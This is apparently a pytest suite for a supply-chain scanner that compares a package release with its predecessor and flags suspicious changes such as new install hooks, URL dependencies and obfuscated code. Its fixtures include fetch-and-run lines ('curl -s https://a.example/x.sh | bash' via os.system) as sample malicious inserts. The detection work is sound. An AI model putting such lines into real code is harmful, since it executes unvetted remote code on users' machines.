"""Two releases, side by side: what a compromised one shows, and what an ordinary one does not."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandboxes.screening.detectors import differences
from sandboxes.screening.detectors.comparing import normalised
from sandboxes.screening.findings import Ability, Found, Threat
from sandboxes.screening.package import Kind, Package
from tests.sandboxes.screening.detectors.opened import looked, npm, sdist, told, wheel
from tests.sandboxes.screening.packages import Files, package

BODY = "".join(f"def part_{number}(x):\n    return x + {number}\n\n\n" for number in range(60))
INIT = '"""A thing."""\n\nfrom thing.core import part_1\n\n__version__ = "1.0"\n'
OLD: dict[str, bytes | str] = {
    "thing/__init__.py": INIT,
    "thing/core.py": BODY,
}
NEW = {**OLD, "thing/__init__.py": INIT.replace("1.0", "1.1")}
SHELL = "import os\nos.system('curl -s https://a.example/x.sh | bash')\n"


def pair(
    folder: Path, new: Files, old: Files = OLD, make: Any = wheel, **facts: Any
) -> tuple[Package, Package]:
    """The new release and the one before it, as real archives."""
    return make(folder, new, version="1.1", **facts), make(folder, old, version="1.0")


def compared(folder: Path, new: Files, old: Files = OLD, make: Any = wheel, **facts: Any) -> list[Found]:
    return looked(differences, *pair(folder, new, old, make, **facts))


# What stands among the other detectors' findings is said again; that has tests of its own.
REPEATED = ("difference.small-change", "difference.ability")


def own(found: list[Found]) -> set[tuple[str, str]]:
    return told([each for each in found if each.rule not in REPEATED])


def test_without_a_former_release_there_is_nothing_to_compare() -> None:
    assert looked(differences, package({"thing/__init__.py": SHELL})) == []


# What says nothing


ORDINARY: list[tuple[str, Files]] = [
    ("the same", OLD),
    ("another version", NEW),
    ("more code", {**NEW, "thing/more.py": BODY}),
    ("less code", {"thing/__init__.py": "__version__ = '1.1'\n"}),
    ("a moved file", {"thing/__init__.py": NEW["thing/__init__.py"], "thing/inner/core.py": BODY}),
    ("prose", {**NEW, "thing/README.md": "curl https://a.example/x.sh | bash"}),
    ("data", {**NEW, "thing/table.csv": "1,2\n" * 1000}),
]


@pytest.mark.parametrize("new", [row[1] for row in ORDINARY], ids=[row[0] for row in ORDINARY])
def test_an_ordinary_release(new: Files, tmp_path: Path) -> None:
    assert compared(tmp_path, new) == []


def test_what_the_former_one_did_is_nothing_new(tmp_path: Path) -> None:
    old = {**OLD, "thing/setup_env.py": SHELL}
    assert compared(tmp_path, {**NEW, "thing/setup_env.py": SHELL}, old) == []
    # Nor is it somewhere else in a release of which much changed.
    more = {f"thing/part{number}.py": BODY + f"# {number}\n" for number in range(10)}
    moved = compared(tmp_path, {**NEW, **more, "thing/environment.py": SHELL}, old)
    assert {each.rule for each in moved} <= {"difference.small-change"}
    assert moved == []


# The compromised release


def test_one_line_that_starts_a_program_in_an_otherwise_equal_release(tmp_path: Path) -> None:
    line = "os.system('curl -s https://a.example/x.sh | bash')"
    core = "import os\n" + BODY + line + "\n"
    new = {**NEW, "thing/core.py": core}
    found = [each for each in compared(tmp_path, new) if each.threat is Threat.CRITICAL]
    assert found
    assert {each.rule for each in found} == {"difference.small-change"}
    assert {each.path for each in found} == {"thing/core.py"}
    assert line in found[0].excerpt
    assert found[0].line == core.splitlines().index(line) + 1
    assert found[0].why.startswith("New in a release that is otherwise as 1.0: ")


def test_the_same_among_many_changes_is_less_grave_and_still_told(tmp_path: Path) -> None:
    more = {f"thing/part{number}.py": BODY + f"# {number}\n" for number in range(10)}
    found = compared(tmp_path, {**NEW, **more, "thing/core.py": BODY + SHELL})
    assert {each.rule for each in found} == {"difference.ability"}
    assert max(each.threat for each in found) is not Threat.CRITICAL
    assert found[0].why.startswith("Nothing in 1.0 was able to: ")


def test_a_second_line_like_one_that_was_there_is_new(tmp_path: Path) -> None:
    old = {**OLD, "thing/core.py": BODY + SHELL}
    more = BODY + SHELL + "os.system('curl -s https://b.example/y.sh | bash')\n"
    found = compared(tmp_path, {**NEW, "thing/core.py": more}, old)
    assert {each.rule for each in found} == {"difference.small-change"}
    assert all("b.example" in each.excerpt for each in found)


def test_an_obfuscated_line_that_a_file_grew_by(tmp_path: Path) -> None:
    old = {"index.js": "module.exports = function (a) { return a }\n" * 20}
    payload = "".join(f"const a{number}=b('{number:x}');" for number in range(2000)) + "\n"
    found = compared(tmp_path, {"index.js": old["index.js"] + payload}, old, npm)
    assert told(found) == {("difference.grown", "high")}
    assert compared(tmp_path, {"index.js": old["index.js"] + payload.replace(";", ";\n")}, old, npm) == []


# New files of kinds that matter


KINDS: list[tuple[str, dict[str, bytes | str], set[tuple[str, str]]]] = [
    ("machine code in a pure wheel", {"thing/_speed.so": b"\x7fELF"}, {("difference.native", "high")}),
    ("a program", {"thing/helper.exe": b"MZ"}, {("difference.native", "high")}),
    ("a path", {"thing.pth": "thing/lib\n"}, {("difference.start-hook", "high")}),
    ("sitecustomize", {"sitecustomize.py": "x = 1\n"}, {("difference.start-hook", "high")}),
    ("a script", {"thing/setup.sh": "echo\n"}, {("difference.script", "low")}),
    ("an archive", {"thing/more.zip": b"PK"}, {("difference.archive", "low")}),
    ("a folder of that name", {"thing/sitecustomize.py": "x = 1\n"}, set()),
    ("a picture", {"thing/logo.png": b"\x89PNG"}, set()),
]


@pytest.mark.parametrize(("more", "expected"), [row[1:] for row in KINDS], ids=[row[0] for row in KINDS])
def test_new_files(more: Files, expected: set[tuple[str, str]], tmp_path: Path) -> None:
    new: Files = {**NEW, **more}
    found = compared(tmp_path, new)
    assert own(found) == expected
    # And nothing of it once it is there.
    old: Files = {**OLD, **more}
    assert compared(tmp_path, new, old) == []


def test_machine_code_where_there_was_some_says_nothing(tmp_path: Path) -> None:
    old = {**OLD, "thing/_speed.cpython-312-x86_64-linux-gnu.so": b"\x7fELF"}
    new = {**NEW, "thing/_speed.cpython-313-x86_64-linux-gnu.so": b"\x7fELF", "thing/_more.so": b"\x7fELF"}
    assert [each for each in compared(tmp_path, new, old) if each.ability is not Ability.NATIVE] == []
    assert "difference.native" not in {each.rule for each in compared(tmp_path, new, old)}


def test_a_setup_py_that_sources_did_not_need(tmp_path: Path) -> None:
    found = compared(tmp_path, {**NEW, "setup.py": "x = 1\n"}, OLD, sdist)
    assert ("difference.setup", "medium") in told(found)


@pytest.mark.parametrize(
    ("path", "same"),
    [
        ("thing-1.0.dist-info/METADATA", "dist-info/METADATA"),
        ("thing-1.0.data/scripts/x", "data/scripts/x"),
        ("src/thing/a.py", "thing/a.py"),
        ("thing/_a.cpython-313-x86_64-linux-gnu.so", "thing/_a.so"),
        ("thing/_a.cp313-win_amd64.pyd", "thing/_a.pyd"),
        ("thing/_a.abi3.so", "thing/_a.so"),
        ("thing/a.py", "thing/a.py"),
        ("thing/src/a.py", "thing/src/a.py"),
    ],
)
def test_paths_of_the_same_file(path: str, same: str) -> None:
    assert normalised(path) == same


# What the metadata says


def package_json(**fields: Any) -> dict[str, str]:
    return {"package.json": json.dumps({"name": "thing", "version": "1.0", **fields})}


SCRIPTS: list[tuple[str, dict[str, str], dict[str, str], set[tuple[str, str]]]] = [
    ("new", {}, {"postinstall": "node x.js"}, {("difference.lifecycle", "high")}),
    (
        "another",
        {"install": "node-gyp rebuild"},
        {"install": "node x.js"},
        {("difference.lifecycle", "medium")},
    ),
    ("for developers", {}, {"prepare": "tsc"}, {("difference.lifecycle", "medium")}),
    ("the same", {"postinstall": "node x.js"}, {"postinstall": "node x.js"}, set()),
    ("gone", {"postinstall": "node x.js"}, {}, set()),
    ("never run", {}, {"test": "jest"}, set()),
]


@pytest.mark.parametrize(
    ("old", "new", "expected"), [row[1:] for row in SCRIPTS], ids=[row[0] for row in SCRIPTS]
)
def test_scripts_that_npm_runs(
    old: dict[str, str], new: dict[str, str], expected: set[tuple[str, str]], tmp_path: Path
) -> None:
    found = compared(tmp_path, package_json(scripts=new), package_json(scripts=old), npm)
    assert own(found) == expected


NEEDS: list[tuple[str, Any, Any, set[tuple[str, str]]]] = [
    ("one more", {"a": "^1"}, {"a": "^1", "b": "^1"}, {("difference.dependency", "low")}),
    ("another range", {"a": "^1"}, {"a": "^2"}, set()),
    ("from an address", {}, {"b": "https://a.example/b.tgz"}, {("difference.dependency", "high")}),
    ("from a repository", {}, {"b": "git+https://a.example/b"}, {("difference.dependency", "high")}),
    ("from an account", {}, {"b": "somebody/b"}, {("difference.dependency", "high")}),
    ("no table", [], "b", set()),
]


@pytest.mark.parametrize(
    ("old", "new", "expected"), [row[1:] for row in NEEDS], ids=[row[0] for row in NEEDS]
)
def test_what_npm_packages_need(old: Any, new: Any, expected: set[tuple[str, str]], tmp_path: Path) -> None:
    found = compared(tmp_path, package_json(dependencies=new), package_json(dependencies=old), npm)
    assert own(found) == expected


PEOPLE = "Metadata-Version: 2.1\nName: thing\nVersion: {version}\n"
METADATA: list[tuple[str, str, str, set[tuple[str, str]]]] = [
    ("a new requirement", "", "Requires-Dist: b>=1\n", {("difference.dependency", "low")}),
    ("one for an extra", "", 'Requires-Dist: b ; extra == "x"\n', set()),
    (
        "one from an address",
        "",
        "Requires-Dist: b @ https://a.example/b.whl\n",
        {("difference.dependency", "high")},
    ),
    ("the same one", "Requires-Dist: b>=1\n", "Requires-Dist: B>=2\n", set()),
    (
        "another author",
        "Author-email: Al <al@a.example>\n",
        "Author-email: Mo <mo@b.example>\n",
        {("difference.people", "medium")},
    ),
    ("one more maintainer", "Author: Al\n", "Author: Al\nMaintainer: Mo\n", set()),
    (
        "a new address",
        "Author: Al\nAuthor-email: al@a.example\n",
        "Author: Al\nAuthor-email: al@b.example\n",
        set(),
    ),
    ("nobody any more", "Author: Al\n", "", set()),
    ("somebody at last", "Author: UNKNOWN\n", "Author: Al\n", set()),
]


@pytest.mark.parametrize(
    ("old", "new", "expected"), [row[1:] for row in METADATA], ids=[row[0] for row in METADATA]
)
def test_what_wheels_need_and_who_made_them(
    old: str, new: str, expected: set[tuple[str, str]], tmp_path: Path
) -> None:
    former = wheel(tmp_path, OLD, metadata=PEOPLE.format(version="1.0") + old)
    latest = wheel(tmp_path, NEW, version="1.1", metadata=PEOPLE.format(version="1.1") + new)
    assert own(looked(differences, latest, former)) == expected


def test_npms_people(tmp_path: Path) -> None:
    old = package_json(author="Al <al@a.example>", maintainers=[{"name": "al", "email": "al@a.example"}])
    new = package_json(author={"name": "Mo", "email": "mo@b.example"}, maintainers="nobody")
    assert own(compared(tmp_path, new, old, npm)) == {("difference.people", "medium")}


def test_a_release_that_is_suddenly_large(tmp_path: Path) -> None:
    def of(size: int) -> dict[str, bytes | str]:
        return {**NEW, "thing/data.csv": b"0123456789abcdef" * (size // 16)}

    mib = 1024 * 1024
    assert own(compared(tmp_path, of(2 * mib), of(mib // 4))) == {("difference.size", "low")}
    much = wheel(tmp_path, of(12 * mib), version="1.0.1")
    assert own(looked(differences, much, wheel(tmp_path, of(mib // 4)))) == {("difference.size", "medium")}
    assert own(compared(tmp_path, of(12 * mib), of(mib // 4))) == {("difference.size", "low")}
    assert compared(tmp_path, of(2 * mib), of(mib)) == []
    assert compared(tmp_path, of(mib // 2), of(1000)) == []


# A wheel against its own sources


def test_code_that_no_source_has(tmp_path: Path) -> None:
    sources = sdist(tmp_path, {f"src/{path}": text for path, text in OLD.items()})
    assert looked(differences, wheel(tmp_path, OLD), sources) == []
    found = looked(differences, wheel(tmp_path, {**OLD, "thing/core.py": BODY + SHELL}), sources)
    assert found
    assert {each.rule for each in found} == {"difference.not-in-sources"}
    assert {each.path for each in found} == {"thing/core.py"}


@given(
    st.dictionaries(st.text(min_size=1, max_size=30), st.binary(max_size=200), max_size=5),
    st.binary(max_size=300),
)
@settings(max_examples=40)
def test_any_two_packages_can_be_compared(files: dict[str, bytes], said: bytes) -> None:
    for kind in Kind:
        old = package({"package.json": said, "PKG-INFO": said, "thing-1.0.dist-info/METADATA": said}, kind)
        new = package({**files, "package.json": said[::-1]}, kind)
        list(differences.look(new, old))
        list(differences.look(old, new))


RUNS = "\n\ndef started(path):\n    return subprocess.Popen([path])\n"


def firsts(found: list[Found]) -> set[tuple[str, str, str]]:
    return {
        (each.ability, each.threat, each.path)
        for each in found
        if each.rule == "difference.first-of-its-kind"
    }


def test_the_first_program_that_a_small_release_starts_is_told(tmp_path: Path) -> None:
    new = {**NEW, "thing/core.py": f"import subprocess\n{BODY}{RUNS}"}
    assert firsts(compared(tmp_path, new)) == {("process", "high", "thing/core.py")}
    # Not where another file did so before, in a release that is another one, or in its tests.
    old = {**OLD, "thing/other.py": "import subprocess\nsubprocess.run(['git'])\n"}
    assert firsts(compared(tmp_path, {**new, "thing/other.py": old["thing/other.py"]}, old)) == set()
    large = "".join(f"def more_{number}(x):\n    return x - {number}\n\n\n" for number in range(60))
    assert firsts(compared(tmp_path, {**new, "thing/more.py": large})) == set()
    assert firsts(compared(tmp_path, {**NEW, "tests/test_core.py": f"import subprocess\n{RUNS}"})) == set()
